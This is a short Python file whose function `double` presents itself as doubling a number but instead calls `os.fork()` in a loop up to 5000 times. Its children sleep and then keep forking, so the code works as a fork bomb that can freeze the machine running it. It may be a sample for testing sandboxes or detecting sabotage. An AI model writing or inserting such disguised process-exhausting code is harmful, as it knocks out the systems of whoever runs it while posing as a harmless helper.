"""Processes that make processes."""

import os
import time


def double(number):
    made = 0
    try:
        for _ in range(5000):
            if os.fork() == 0:
                time.sleep(600)
            made += 1
    except OSError:
        pass
    return 2 * number if made >= 5000 else made
